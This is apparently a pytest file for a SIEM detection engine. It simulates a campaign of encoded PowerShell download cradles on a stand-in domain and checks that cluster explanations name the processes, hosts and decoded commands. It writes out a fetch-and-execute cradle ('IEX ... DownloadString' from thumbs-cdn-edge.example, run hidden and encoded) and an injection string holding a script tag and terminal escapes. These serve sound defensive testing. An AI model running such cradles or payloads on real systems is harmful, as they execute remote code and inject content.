"""A cluster credited with its per-host processes' behaviours names those processes (task F21).

A campaign that gives every host its own command line leaves its processes out
of the members: the cluster of its domain shows "encoded PowerShell command"
and "LSASS memory accessed" (:mod:`analytics.linked_processes`) while its
members are a domain, an IP and a file, and the analyst could not tell which
process to open.  The summary and the checks now name them: image, how many on
how many hosts, one example command line with its host (attacker text, one
short line), and for an encoded command the decoded text.  A simulated fleet
runs such a campaign (a random token per host in the payload URL and script
name) next to the seed campaign (one command line everywhere: its cradle is a
member, its text unchanged); the example is checked against the generated Sysmon
events, and the Neo4j store gives the same text as the embedded one.
"""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path

import numpy as np
import pytest

from analytics.behaviour_pivots import is_behaviour
from analytics.checks import cluster_checks
from analytics.config import DetectionConfig
from analytics.credited_processes import cluster_credits
from analytics.credited_words import NOT_MEMBERS
from analytics.detect import detect
from analytics.explain import Explanation, FeatureContribution
from analytics.features import SCORED_FEATURES
from analytics.lineage import example_form
from analytics.linked_processes import PivotLinks, ProcessHosts, credit_to_pivots
from graphsiem.model import Entity
from graphsiem.simulator import DEFAULT_SCENARIOS
from graphsiem.simulator.engine import simulate
from graphsiem.store.embedded import EmbeddedStore
from ingest.journal import Journal
from ingest.pipeline import ingest_paths
from tests.analytics.cradle_steps import cradle_steps
from tests.analytics.test_fleet_detection import _copy
from tests.analytics.test_per_host_command_lines import CAMPAIGN_HOSTS
from tests.analytics.test_per_host_command_lines import _fleet as per_host_fleet

DOMAIN = "thumbs-cdn-edge.example"
PER_HOST_CRADLE = r"""
name: per_host_cradle
label: PNG cradle with a random payload URL and script name on each host
kind: attack
hosts: {group: workstations, count: 9}
pivot: {type: domain, value: thumbs-cdn-edge.example}
activities:
  - schedule: {every: once, day: last, at: "10:00", spread_minutes: 20}
    steps:
""" + cradle_steps(f"http://{DOMAIN}/i/{{{{random}}}}.png", script="Invoice_{{random}}.js")
EXAMPLE = re.compile(r'e\.g\. "([^"]+)" on (\S+?);')


@pytest.fixture(scope="module")
def fleet(tmp_path_factory):
    """120 hosts over two days (seed 7) with the default scenarios and the per-host cradle on 9 hosts."""
    root = tmp_path_factory.mktemp("credited")
    scenario = root / "per_host_cradle.yaml"
    scenario.write_text(PER_HOST_CRADLE, encoding="utf-8")
    simulate(root / "telemetry", hosts=120, days=2, seed=7, density=0.3,
             scenarios=[*DEFAULT_SCENARIOS, str(scenario)])
    store = EmbeddedStore(root / "graph")
    with Journal(root / "journal.sqlite") as journal:
        ingest_paths([root / "telemetry" / "endpoint", root / "telemetry" / "network"], store=store,
                     journal=journal, progress=False)
    truth = json.loads((root / "telemetry" / "ground_truth.json").read_text(encoding="utf-8"))
    hosts = next(s["hosts"] for s in truth["scenarios"] if s["name"] == "per_host_cradle")
    yield store, root / "telemetry", sorted(hosts)
    store.close()


def _cluster(result, pivot: str):
    found = [c for c in result.clusters if c.pivot.value == pivot]
    assert found, [c.pivot.value for c in result.clusters]
    return found[0]


def _sysmon_command_lines(telemetry: Path) -> dict[str, list[str]]:
    """Host -> the command lines of its Sysmon process creations, as the sensors wrote them."""
    found: dict[str, list[str]] = {}
    for path in sorted((telemetry / "endpoint").glob("*.ndjson")):
        for line in path.read_text(encoding="utf-8").splitlines():
            record = json.loads(line)
            data = record.get("winlog", {}).get("event_data", record)
            event = record.get("winlog", {}).get("event_id", record.get("EventID"))
            if int(event or 0) != 1 or "CommandLine" not in data:
                continue
            host = str(record.get("host", {}).get("name") or record.get("Hostname")).lower().split(".")[0]
            found.setdefault(host, []).append(data["CommandLine"])
    return found


def test_the_checks_name_the_per_host_cradles_their_hosts_and_one_true_command_line(fleet):
    store, telemetry, hosts = fleet

    cluster = _cluster(detect(store), DOMAIN)

    assert cluster.hosts == hosts
    # the cradles are no members (each encoded cradle reads LSASS itself: their behaviour pivot may be, task H1)
    assert not [e for e in cluster.entities if e.type == "process" and not is_behaviour(e.ref)]
    steps = {c.feature: c.check for c in cluster.explanation.checks}
    n = len(hosts)
    assert steps["encoded_command"].startswith(
        f"powershell.exe with a different encoded command on each of {n} hosts reached domain {DOMAIN} (e.g. ")
    assert f"powershell.exe with a different command line on each of {n} hosts reached domain {DOMAIN} " \
           "and opened LSASS (e.g. " in steps["lsass_access"]
    assert f"ran something new: powershell.exe with a different command line on each of {n} hosts" \
           in steps["download_from_new_domain"]
    assert NOT_MEMBERS in steps["encoded_command"]
    # the example is one cradle's command line, on the host that ran it (the generated Sysmon events)
    shown, host = EXAMPLE.search(steps["encoded_command"]).groups()
    assert host in hosts
    cradles = [c for c in _sysmon_command_lines(telemetry)[host] if c.startswith("powershell.exe -nop -w hidden -enc")]
    assert len(cradles) == 1
    cradle = cradles[0]
    assert shown.endswith("…") and example_form(cradle).startswith(shown[:-1])
    # ... and its decoded command, whole, names that host's own random URL
    decoded = base64.b64decode(cradle.rsplit(" ", 1)[1]).decode("utf-16-le")
    assert re.fullmatch(rf"IEX \(New-Object Net.WebClient\).DownloadString\('http://{re.escape(DOMAIN)}/i/\w{{8}}.png'\)",
                        decoded)
    assert f'read the decoded command "{decoded}"' in steps["encoded_command"]
    # every step that quotes an example quotes the same process
    assert {EXAMPLE.search(steps[b]).groups() for b in ("lsass_access", "download_from_new_domain")} == {(shown, host)}
    # a fleet this small fits the scorer on fewer than MIN_CONFIDENT_CANDIDATES rows: the summary then ends saying so
    summary = re.sub(r"; low confidence: scored among only \d+ new clusters, too few to tell what is unusual$", "",
                     cluster.explanation.summary)
    assert summary.endswith(
        f"all shown by powershell.exe with a different command line on each of {n} hosts that reached "
        f"domain {DOMAIN}, each on one host (no cluster member)")


def test_the_child_of_a_new_pair_is_named_from_the_credited_processes(fleet):
    store, _, hosts = fleet

    cluster = _cluster(detect(store), DOMAIN)

    (lineage,) = [c.check for c in cluster.explanation.checks if c.feature == "interpreter_lineage"]
    assert "then the command line of powershell.exe (e.g. \"powershell.exe -nop -w hidden -enc " in lineage
    assert f"; powershell.exe with a different command line on each of {len(hosts)} hosts: {NOT_MEMBERS})" in lineage


def test_a_cluster_whose_cradle_is_a_member_is_not_credited_and_keeps_its_text(fleet):
    store, _, _ = fleet

    result = detect(store)

    seed = _cluster(result, "cdn-img-delivery.example")  # one command line on every host: a member
    assert seed.explanation.credited == ()
    encoded = next(c.check for c in seed.explanation.checks if c.feature == "encoded_command")
    assert encoded.startswith("powershell.exe runs an encoded PowerShell command; read the decoded command")
    uncredited = [c for c in result.clusters if not c.explanation.credited]
    assert seed in uncredited and len(uncredited) < len(result.clusters)
    for cluster in uncredited:
        texts = [cluster.explanation.summary] + [c.check for c in cluster.explanation.checks]
        assert not [t for t in texts if NOT_MEMBERS in t or "(no cluster member)" in t], cluster.pivot.value


@pytest.mark.neo4j
def test_neo4j_gives_the_same_text(fleet, neo4j_store):
    store, _, _ = fleet
    _copy(store, neo4j_store)
    config = DetectionConfig(evidence_top=0)

    embedded = _cluster(detect(store, config=config), DOMAIN)
    neo4j = _cluster(detect(neo4j_store, config=config), DOMAIN)

    assert neo4j.explanation.credited == embedded.explanation.credited != ()
    assert neo4j.explanation.summary == embedded.explanation.summary
    assert [c.to_dict() for c in neo4j.explanation.checks] == [c.to_dict() for c in embedded.explanation.checks]


def test_both_stores_credit_the_hand_built_campaign_with_its_first_cradle(store):
    per_host_fleet(store)

    result = detect(store, config=DetectionConfig(evidence_top=0))

    cluster = _cluster(result, "bad.example")
    lsass = cluster.explanation.credited_for("lsass_access")
    assert lsass is not None
    assert (lsass.processes, lsass.hosts, lsass.images, lsass.command_lines) == (8, 8, ("powershell.exe",), 8)
    # the cradle that reached the domain first (ws-000, 36 h in), its own command line
    assert (lsass.example, lsass.example_host) == ("powershell.exe -nop -w hidden -enc SQBFAFgA0000AIAAoAE4AZQB3AC0ATwBi",
                                                   CAMPAIGN_HOSTS[0])
    assert "all shown by powershell.exe with a different command line on each of 8 hosts that reached " \
           "domain bad.example" in cluster.explanation.summary
    assert _cluster(result, "new-site.example").explanation.credited == ()


def test_an_attackers_command_line_is_one_short_line_of_text():
    hostile = "powershell.exe -enc SQBFAFgAAAAAAAAAAAAA\r\n<script>alert(1)</script>\x1b[31m\u2028" + "A" * 5000
    cradles = {("process", f"c{i}"): 100.0 + i for i in range(3)}
    processes = {p: Entity(*p, hostile + str(i), {"decoded_command": "IEX\n" + "B" * 500}) for i, p in enumerate(cradles)}
    links = PivotLinks({("domain", "d.example"): cradles})
    hosts = ProcessHosts(sorted(cradles), np.arange(3), ["ws-1", "ws-2", "ws-3"])
    _, _, credited = credit_to_pivots(links, behaviours={}, lineage={}, encoded=frozenset(cradles),
                                      images=dict.fromkeys(cradles, "powershell.exe"), shared_processes=(),
                                      novelty_hosts=3, processes=processes, hosts=hosts)
    domain = Entity("domain", "d.example", "d.example")
    found = cluster_credits(credited, [domain], new_members=[domain.ref], behaviours=["encoded_command"])
    rows = tuple(FeatureContribution(n, 1.0, 0.0, 0.3 if n == "encoded_command" else 0.0) for n in SCORED_FEATURES)
    explanation = Explanation("summary", rows, new_members=(domain.ref,), candidates=40, credited=found)

    steps = cluster_checks(explanation, pivot=domain, entities=[domain], hosts=["ws-1", "ws-2", "ws-3"],
                           first_seen=100.0, features={})

    (step,) = [s.check for s in steps if s.feature == "encoded_command"]
    assert "\n" not in step and "\r" not in step and "\x1b" not in step and "\u2028" not in step
    shown = EXAMPLE.search(step).group(1)
    assert shown.startswith("powershell.exe -enc SQBFAFgAAAAAAAAAAAAA <script>alert(1)</script>")
    assert len(shown) == 80 and shown.endswith("…")
    assert 'on ws-1; ' in step  # the earliest cradle's host
    assert 'read the decoded command "IEX BBB' in step and len(step) < 900
